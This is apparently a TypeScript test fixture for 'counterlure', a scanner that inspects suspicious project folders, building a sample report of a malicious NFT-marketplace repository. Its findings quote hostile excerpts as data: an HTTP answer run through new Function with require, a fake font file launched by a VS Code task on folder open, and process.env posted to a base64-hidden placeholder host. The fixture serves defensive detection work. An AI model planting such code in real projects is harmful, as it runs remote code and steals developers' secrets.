/** An inspection as the engine gives one, for tests of what is made of it. Inert: reserved hosts, payload words that do nothing. */
import type { Finding, Inspection } from '../../src/model/index.ts';

const TASK = {
  kind: 'vscode-task',
  action: 'open the folder in VS Code',
  label: 'task "env"',
  file: '.vscode/tasks.json',
  line: 5,
  excerpt: 'npm install --silent --no-progress',
};

export function sampleFinding(changes: Partial<Finding> = {}): Finding {
  return {
    id: 'remote-code-execution-0123456789ab',
    rule: 'remote-code-execution',
    title: 'The answer of a request is run as code',
    message: 'The body of an HTTP answer is given to the Function constructor together with require.',
    severity: 'critical',
    confidence: 98,
    techniques: ['T1059.007', 'T1105'],
    tradecraft: ['T26', 'T41'],
    file: 'server/controllers/auth.js',
    line: 41,
    column: 11,
    excerpt: "new Function('require', data)(require)",
    reach: 'automatic',
    path: {
      trigger: TASK,
      steps: [
        { file: 'package.json', line: 9, how: 'starts', text: 'prepare: node server/server.js' },
        { file: 'server/server.js', line: 12, how: 'requires', text: './routes' },
        { file: 'server/routes/index.js', line: 4, how: 'requires', text: '../controllers/auth' },
        { file: 'server/controllers/auth.js', line: 52, how: 'calls', text: 'verifyApiKey()' },
      ],
      sink: {
        kind: 'function-constructor',
        file: 'server/controllers/auth.js',
        line: 41,
        text: "new Function('require', data)(require)",
      },
    },
    related: [
      { file: 'server/.env', line: 3, column: 1, excerpt: 'AUTH_API=aHR0cHM6Ly9jaGVjay5pbnZhbGlkL2FwaQ==' },
      { file: 'server/config/index.js', line: 7, column: 3, excerpt: 'authApi: atob(process.env.AUTH_API)' },
    ],
    suppressed: null,
    ...changes,
  };
}

export function sampleInspection(changes: Partial<Inspection> = {}): Inspection {
  return {
    schema: 'counterlure/inspection/1',
    tool: { name: 'counterlure', version: '0.1.0' },
    target: { name: 'nft-marketplace', kind: 'folder', head: null },
    verdict: {
      level: 'malicious',
      score: 97,
      reasons: [
        'The body of an HTTP answer is given to the Function constructor. It starts by itself: open the folder in VS Code. (server/controllers/auth.js:41, remote-code-execution)',
        'A font file holds JavaScript. It starts by itself: open the folder in VS Code. (public/fonts/fa-solid-400.woff2:1, fake-asset)',
      ],
      advice: [
        'Do not open the folder in an editor, install, build or run it, and run no git command inside it.',
        'Keep the archive or link, the messages and the sender’s profile as evidence; do not tell the sender what you found.',
      ],
      ifAlreadyRun: [
        'Disconnect the machine from the network now, and leave it on if you can: memory is evidence.',
        'From another, clean machine: move crypto assets to new wallets with new seeds.',
      ],
      techniques: ['T1059.007', 'T1105'],
    },
    findings: [
      sampleFinding(),
      sampleFinding({
        id: 'fake-asset-0123456789ab',
        rule: 'fake-asset',
        title: 'A file that pretends to be a font holds code',
        message:
          'The file is named like a font, has no font signature, and is JavaScript text; a task runs it with node.',
        severity: 'high',
        confidence: 95,
        techniques: ['T1036.008'],
        tradecraft: ['T05', 'T50'],
        file: 'public/fonts/fa-solid-400.woff2',
        line: 1,
        column: 201,
        excerpt: '⟨200 blanks⟩ module.exports = "nothing"',
        path: {
          trigger: { ...TASK, label: 'task "eslint-check"', line: 14, excerpt: 'node public/fonts/fa-solid-400.woff2' },
          steps: [],
          sink: {
            kind: 'code in an asset',
            file: 'public/fonts/fa-solid-400.woff2',
            line: 1,
            text: '⟨200 blanks⟩ module.exports = "nothing"',
          },
        },
        related: [],
      }),
      sampleFinding({
        id: 'environment-sent-0123456789ab',
        rule: 'environment-sent',
        title: 'The whole environment is sent away',
        message: 'process.env is spread into the body of a POST request.',
        severity: 'high',
        confidence: 90,
        line: 38,
        excerpt: 'axios.post(url, { ...process.env })',
        related: [],
        path: {
          ...(sampleFinding().path ?? never()),
          sink: {
            kind: 'request',
            file: 'server/controllers/auth.js',
            line: 38,
            text: 'axios.post(url, { ...process.env })',
          },
        },
      }),
      sampleFinding({
        id: 'quiet-task-0123456789ab',
        rule: 'quiet-task',
        title: 'A task hides its terminal',
        message: 'The presentation block keeps the terminal from showing.',
        severity: 'low',
        confidence: 80,
        file: '.vscode/tasks.json',
        line: 9,
        column: 7,
        excerpt: '"reveal": "never"',
        reach: 'unknown',
        path: null,
        related: [],
      }),
      sampleFinding({
        id: 'long-line-0123456789ab',
        rule: 'long-line',
        title: 'A very long line',
        message: 'One line of 12,000 characters.',
        severity: 'medium',
        confidence: 60,
        file: 'vendor/lib.min.js',
        line: 1,
        column: 1,
        excerpt: '!function(e){',
        reach: 'not-reached',
        path: null,
        related: [],
        suppressed: 'baseline: a known minified library',
      }),
    ],
    indicators: [
      {
        type: 'url',
        value: 'https://check.invalid/api',
        defanged: 'hxxps://check[.]invalid/api',
        role: 'payload-host',
        origin: 'observed',
        confidence: 95,
        sharedHosting: false,
        evidence: [{ file: 'server/.env', line: 3, column: 10, sha256: 'a'.repeat(64), layer: 'base64' }],
      },
      {
        type: 'domain',
        value: 'fixture-not-real.vercel.app',
        defanged: 'fixture-not-real[.]vercel[.]app',
        role: 'stager',
        origin: 'observed',
        confidence: 70,
        sharedHosting: true,
        evidence: [{ file: 'server/config/index.js', line: 2, column: 4, sha256: 'b'.repeat(64), layer: 'source' }],
      },
      {
        type: 'url',
        value: 'https://docs.example/api',
        defanged: 'hxxps://docs[.]example/api',
        role: 'reference',
        origin: 'observed',
        confidence: 40,
        sharedHosting: false,
        evidence: [{ file: 'README.md', line: 1, column: 1, sha256: 'c'.repeat(64), layer: 'source' }],
      },
    ],
    samples: [
      {
        file: 'public/fonts/fa-solid-400.woff2',
        sha256: 'd'.repeat(64),
        reason: 'fake-asset: A file that pretends to be a font holds code',
        layers: ['source'],
        families: ['Inert family'],
        does: ['starts nothing'],
      },
    ],
    triggers: [
      { ...TASK, automatic: true, entries: ['server/server.js'], commands: ['npm install --silent --no-progress'] },
    ],
    unresolved: [{ file: 'server/server.js', line: 20, what: 'require(name)', why: 'name comes from a parameter' }],
    coverage: {
      files: 23,
      bytes: 48_210,
      parsed: 14,
      skipped: [
        { path: 'assets/big.bin', reason: 'larger than 16 MB', code: 'max-file-bytes', size: 20_000_000 },
        { path: 'link', reason: 'a symbolic link to /etc/passwd', code: 'link', size: null },
      ],
      limits: { maxBytes: 1_073_741_824, maxFiles: 200_000 },
      notes: ['Nothing of the target was executed; what only shows when code runs is not known.'],
    },
    ...changes,
  };
}

function never(): never {
  throw new Error('the sample finding has a path');
}
